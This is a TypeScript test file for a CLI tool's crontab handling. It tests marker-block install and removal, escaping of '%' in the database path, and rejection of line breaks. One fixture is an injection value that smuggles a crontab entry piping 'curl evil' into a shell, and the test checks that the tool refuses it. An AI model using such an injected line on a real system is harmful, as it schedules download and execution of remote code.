/** Crontab edges: an orphaned marker, a % or a line break in the db path. */
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cron } from '../../src/commands/cron.js';
import { BEGIN, END, cronLine, withBlock, withoutBlock, type Crontab } from '../../src/cron/crontab.js';
import { testEnv } from '../helpers/db.js';

const fake = (initial: string) => {
  const state = { text: initial, writes: 0 };
  const tab: Crontab = { read: () => state.text, write: (t) => ((state.text = t), state.writes++) };
  return { state, tab };
};

/** What cron (cronie, vixie) does to a command before the shell sees it: % ends it, \% is a %. */
function cronCommand(cmd: string): string {
  let out = '';
  for (let i = 0; i < cmd.length; i++) {
    if (cmd[i] === '\\' && cmd[i + 1] === '%') {
      out += '%';
      i++;
    } else if (cmd[i] === '%') break;
    else out += cmd[i];
  }
  return out;
}

describe('cron', () => {
  it('an orphaned start marker: install then remove gives back every line of the user', async () => {
    const { deps } = testEnv();
    const mine = `# mine\n${BEGIN}\n0 1 * * * /usr/bin/my-job\n30 2 * * * /usr/bin/other\n`;
    const { state, tab } = fake(mine);
    await cron({ action: 'install' }, { ...deps, crontab: tab, node: '/usr/bin/node' });
    expect(state.text).toContain('/usr/bin/my-job');
    await cron({ action: 'remove' }, { ...deps, crontab: tab });
    expect(state.text).toBe(mine);
  });

  it('removing only ever takes out one BEGIN … END run with no marker inside; nothing else moves', () => {
    const line = fc.oneof(
      fc.constantFrom(BEGIN, END, ' ', '# comment', 'MAILTO=me', '5 4 * * * job %x'),
      fc.string({ minLength: 1, maxLength: 20 }).filter((s) => !s.includes('\n')),
    );
    const block = [BEGIN, '0 9 * * * rel remind', END].join('\n');
    fc.assert(
      fc.property(fc.array(line, { maxLength: 12 }), (lines) => {
        const text = lines.join('\n');
        const rest = withoutBlock(text);
        const after = rest === '' ? [] : rest.split('\n');
        const cut = lines.length - after.length;
        if (cut > 0) {
          const valid = (i: number) => {
            const run = lines.slice(i, i + cut);
            return (
              run[0] === BEGIN &&
              run[run.length - 1] === END &&
              !run.slice(1, -1).some((l) => l === BEGIN || l === END) &&
              JSON.stringify([...lines.slice(0, i), ...lines.slice(i + cut)]) === JSON.stringify(after)
            );
          };
          expect(lines.some((_, i) => valid(i))).toBe(true);
        } else {
          // No complete block: installing and removing again gives the user's text back.
          const withNl = text === '' || text.endsWith('\n') ? text : `${text}\n`;
          expect(withoutBlock(withBlock(text, block))).toBe(withNl);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('a % in the db path reaches rel intact (cron would cut the line there)', () => {
    for (const db of ['/home/me/50%/rel.db', "/tmp/it's %s %% here/rel.db"]) {
      const line = cronLine({ minute: 0, hour: 9, node: '/usr/bin/printenv', bin: 'REL_DB', db });
      const command = cronCommand(line.split(' ').slice(5).join(' '));
      const r = spawnSync('sh', ['-c', command], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '' } });
      expect(r.stdout.split('\n')[0]).toBe(db);
    }
  });

  it('a line break in the db path is refused and the crontab is not written', async () => {
    const { deps } = testEnv();
    for (const dbPath of [
      '/tmp/a\n* * * * * curl evil | sh\n/rel.db',
      '/tmp/a\r/rel.db',
      '/tmp/a\\%/rel.db',
    ]) {
      const { state, tab } = fake('# mine\n');
      await expect(
        cron({ action: 'install' }, { ...deps, dbPath, crontab: tab, node: '/usr/bin/node' }),
      ).rejects.toThrow(expect.objectContaining({ key: 'cronBadPath' }));
      expect(state.writes).toBe(0);
    }
  });
});
